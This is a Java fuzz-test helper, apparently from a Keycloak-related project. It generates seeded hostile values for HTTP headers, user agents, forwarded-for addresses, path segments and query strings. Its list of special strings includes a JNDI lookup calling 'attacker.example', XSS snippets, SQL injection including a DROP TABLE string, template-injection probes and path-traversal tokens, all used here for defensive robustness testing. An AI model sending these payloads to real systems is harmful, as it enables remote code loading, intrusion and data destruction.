package io.github.kcsessions.it.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import static io.github.kcsessions.fixtures.Devices.CHROME_WINDOWS;
import static io.github.kcsessions.fixtures.Devices.CURL;
import static io.github.kcsessions.fixtures.Devices.LONDON_IP;
import static io.github.kcsessions.fixtures.Devices.SAFARI_IPHONE;

/**
 * Hostile values, drawn from one seeded {@link Random}: the same seed gives the same campaign. What an attacker or a
 * careless client sends: empty, overlong, control and separator characters, JSON, template and JNDI strings, markup,
 * numbers in other scripts, and text from every Unicode plane.
 *
 * <p>Header values go out as UTF-8 bytes, each byte one ISO-8859-1 character, as a client sends non-ASCII in a header
 * (HTTP has no other way to carry it); control characters never go into headers: the server's HTTP layer refuses them
 * before any provider runs (docs/api.md).
 */
final class Hostile {

    /** Strings with a meaning somewhere: templates, JNDI, markup, SQL, paths, separators of our own note format. */
    static final List<String> SPECIAL = List.of(
            "", " ", "null", "undefined", "true", "-1", "0", "NaN", "1e309", "9".repeat(40), "0x7f", "+1", "١٢٣",
            "${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://attacker.example/a}", "${env:HOME}",
            "<img src=x onerror=alert(1)>", "\"><script>alert(1)</script>", "javascript:alert(1)",
            "' OR '1'='1", "'; DROP TABLE USER_SESSION; --", "%", "_", "*", "\\", "\\\\", "%00", "%2e%2e", "..",
            "a|b|c", "k=v;k2=v2", "a,b", "\"", "'", "`", "{\"a\":1}", "[1,2]", "{}", "[]",
            "\u0000", "\u001f", "\u007f", "\u0085", "\u2028", "\u2029", "\ufeff", "\ufffd", "\ud83d\ude00",
            "\ud800", "\udfff", "𝕳𝖔𝖘𝖙𝖎𝖑𝖊", "\u202eevil", "Ⅻ", "٣", "߀", "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
            "\uDB40\uDC41", "\uDBFF\uDFFF", "Σ".repeat(300));

    private final Random random;

    Hostile(long seed) {
        this.random = new Random(seed);
    }

    int below(int bound) {
        return random.nextInt(bound);
    }

    boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    @SafeVarargs
    final <T> T pick(T... values) {
        return values[random.nextInt(values.length)];
    }

    /** Any text: a special string, random code points from every plane, or a long run; may contain controls. */
    String text() {
        return switch (random.nextInt(5)) {
            case 0, 1 -> pick(SPECIAL);
            case 2 -> codePoints(1 + random.nextInt(40));
            case 3 -> pick(SPECIAL) + codePoints(random.nextInt(8)) + pick(SPECIAL);
            default -> pick("x", "é", "𝕏", "\u0000", "%", "/").repeat(1 + random.nextInt(3000));
        };
    }

    /** Text for a header: no control characters, at most a few KB, and non-ASCII sent as its UTF-8 bytes. */
    String headerValue() {
        String text = text().codePoints()
                .filter(c -> !Character.isISOControl(c) && !(c >= 0xD800 && c <= 0xDFFF))
                .limit(2000)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
        return asHeaderBytes(text);
    }

    /** A user agent: a real one, a real one with hostile text inserted, or anything. */
    String userAgent() {
        String real = pick(CHROME_WINDOWS, SAFARI_IPHONE, CURL, "PostmanRuntime/7.42.0", "python-requests/2.32.3");
        return switch (random.nextInt(4)) {
            case 0 -> real;
            case 1 -> {
                int at = random.nextInt(real.length());
                yield real.substring(0, at) + headerValue() + real.substring(at);
            }
            case 2 -> asHeaderBytes("{\"browser\":\"" + pick(SPECIAL).replaceAll("\\p{Cntrl}", "") + "\"}");
            default -> headerValue();
        };
    }

    /** A client-hint brand list, structurally valid or not. */
    String brandList() {
        return switch (random.nextInt(5)) {
            case 0 -> "\"\"";
            case 1 -> "\"" + headerValue().replace("\"", "") + "\";v=\"" + headerValue().replace("\"", "") + "\"";
            case 2 -> "\"Chromium\";v=\"131\", \"" + headerValue().replace("\\", "").replace("\"", "\\\"") + "\";v=\"1\"";
            case 3 -> headerValue();
            default -> "\"Google Chrome\";v=\"131\", \"Not_A Brand\";v=\"24\"";
        };
    }

    /**
     * An address as a proxy may spell it, a hostile one, or nonsense, as a proxy that overwrites the header could
     * still pass on: never empty (Keycloak hangs on an empty one) and at most 64 characters (Keycloak fails the login
     * when it saves an event whose address is longer than its column); docs/operations.md.
     */
    String forwardedFor() {
        String value = pick(LONDON_IP, "[2001:db8::1]:4711", "[::ffff:81.2.69.142]", "81.2.69.142:80",
                "2001:DB8:0:0:0:0:0:1", "unknown", "_hidden", "::1", "0.0.0.0", "256.1.1.1", "[::1", "127.1",
                "010.1.1.1", "fe80::1%eth0", "1.2.3.4, 5.6.7.8",
                asHeaderBytes(pick(SPECIAL).replaceAll("\\p{Cntrl}", "")));
        return value.isBlank() ? "unknown" : value.substring(0, Math.min(64, value.length()));
    }

    /** A path segment that reaches the API: never empty, no slash, dot segment or semicolon (refused earlier). */
    String idSegment() {
        String raw = switch (random.nextInt(4)) {
            case 0 -> new java.util.UUID(random.nextLong(), random.nextLong()).toString();
            case 1 -> "x".repeat(1 + random.nextInt(200));
            default -> text();
        };
        // The server's HTTP layer refuses dot segments ("." and "..", encoded or not) before any provider runs.
        return raw.isEmpty() || raw.chars().allMatch(c -> c == '.') ? "x" + percentEncode(raw) : percentEncode(raw);
    }

    /**
     * A query value, percent-encoded. Without control characters: the server's HTTP layer refuses them in a query
     * before any provider runs (docs/api.md).
     */
    String queryValue() {
        return percentEncode(text().codePoints().filter(c -> !Character.isISOControl(c))
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString());
    }

    List<String> some(List<String> values, int max) {
        List<String> chosen = new ArrayList<>();
        int n = random.nextInt(max + 1);
        for (int i = 0; i < n; i++) {
            chosen.add(pick(values));
        }
        return chosen;
    }

    private String codePoints(int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            // Every plane: the basic one most often, then the supplementary ones up to plane 16.
            int plane = random.nextInt(4) == 0 ? random.nextInt(17) : 0;
            int c = plane * 0x10000 + random.nextInt(0x10000);
            if (Character.isValidCodePoint(c) && !(c >= 0xD800 && c <= 0xDFFF)) {
                text.appendCodePoint(c);
            }
        }
        return text.toString();
    }

    /** Percent-encodes every byte but the unreserved ASCII of RFC 3986, so that the path and query carry exactly this text. */
    static String percentEncode(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xFF;
            if (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_'
                    || c == '.' || c == '~') {
                out.append((char) c);
            } else {
                out.append('%').append(Character.toUpperCase(Character.forDigit(c >> 4, 16)))
                        .append(Character.toUpperCase(Character.forDigit(c & 0xF, 16)));
            }
        }
        return out.toString();
    }

    private static String asHeaderBytes(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }
}
